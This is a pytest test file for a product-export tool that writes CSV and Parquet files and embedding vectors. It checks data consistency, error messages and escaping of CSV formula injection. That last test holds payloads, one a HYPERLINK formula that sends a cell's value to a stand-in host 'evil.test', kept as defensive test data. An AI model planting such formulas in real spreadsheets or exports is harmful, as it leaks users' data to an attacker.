import csv

import numpy as np
import pytest
from pyarrow import parquet

from ingest import IngestError
from ingest.export import export_products
from qdrant.store import open_store
from tests import shop
from tests.ingest.commands import run_here


@pytest.fixture(scope="module")
def home(tmp_path_factory, tiny_clip):
    rows = shop.rows()
    rows[0]["title"] = 'said "crimson", twice\nover'
    del rows[1]["image"]
    rows[2]["image"] = "/elsewhere/olive.jpg"
    return shop.build(tmp_path_factory.mktemp("home"), tiny_clip, rows)


def test_the_csv_and_the_parquet_file_have_the_same_products(home, tmp_path):
    assert export_products(home, "tiny", tmp_path)["products"] == 12
    with (tmp_path / "products.csv").open(newline="") as file:
        listed = list(csv.DictReader(file))
    table = parquet.read_table(tmp_path / "products.parquet").to_pylist()
    assert [row["id"] for row in listed] == [row["id"] for row in table]
    assert [row["id"] for row in table] == sorted(row["id"] for row in shop.rows())
    crimson = next(row for row in table if row["id"] == "lipstick-crimson")
    assert crimson["title"] == 'said "crimson", twice over'
    assert crimson["text"].startswith(crimson["title"])
    assert crimson["title"] in {row["title"] for row in listed}
    olive = next(row for row in table if row["id"] == "lipstick-olive")
    assert (olive["image"], olive["picture"]) == ("/elsewhere/olive.jpg", None)


def test_exported_vectors_are_those_of_the_collection(home, tmp_path):
    assert export_products(home, "tiny", tmp_path)["vectors"] == 3 * 12 - 2 * 2
    rows = {row["id"]: row for row in parquet.read_table(tmp_path / "vectors.parquet").to_pylist()}
    with open_store(home) as store:
        points = store.retrieve("tiny", list(rows), vectors=True)
    for name in ("image", "text", "fused"):
        np.testing.assert_allclose(
            rows["kettle-teal"][name], points["kettle-teal"].vectors[name], atol=1e-7
        )
    assert rows["lipstick-teal"]["image"] is None
    assert rows["lipstick-teal"]["text"] is not None


def test_a_folder_that_cannot_be_written_is_named(home, tmp_path):
    (tmp_path / "file").touch()
    (tmp_path / "taken" / "products.csv").mkdir(parents=True)
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "products.csv").symlink_to("/dev/full")
    for name, reason in [
        ("file", "a file is where a folder should be"),
        ("taken", "products.csv: Is a directory"),
        ("full", "No space left on device; free some space"),
    ]:
        ended = run_here(home, "export", "--folder", tmp_path / name)
        assert (ended.status, ended.stdout) == (1, "")
        assert str(tmp_path / name) in ended.error
        assert reason in ended.error


def test_a_spreadsheet_finds_no_formula_in_the_csv_and_the_parquet_file_is_unchanged(
    tmp_path, tiny_clip
):
    formulas = ["=1+1", '=HYPERLINK("http://evil.test/?x="&A1,"click")', "@SUM(1)", "+1", "-2+3"]
    rows = [
        {"id": formula, "title": formula, "brand": formula, "category": "a=b", "price": 5}
        for formula in formulas
    ]
    home = shop.build(tmp_path / "home", tiny_clip, rows)
    export_products(home, "tiny", tmp_path / "export")
    with (tmp_path / "export" / "products.csv").open(newline="") as file:
        listed = list(csv.DictReader(file))
    table = parquet.read_table(tmp_path / "export" / "products.parquet").to_pylist()
    assert {row["title"] for row in table} == set(formulas)
    for name in ("id", "title", "brand", "text"):
        assert [row[name] for row in listed] == [f"'{row[name]}" for row in table]
    assert {row["category"] for row in listed} == {"a=b"}
    assert {row["price"] for row in listed} == {"5"}


def test_one_category_is_exported_and_an_unknown_one_is_an_error(home, tmp_path):
    assert export_products(home, "tiny", tmp_path, category="Beauty")["products"] == 6
    with pytest.raises(IngestError, match="“Toys”; there are Appliances, Beauty"):
        export_products(home, "tiny", tmp_path, category="Toys")
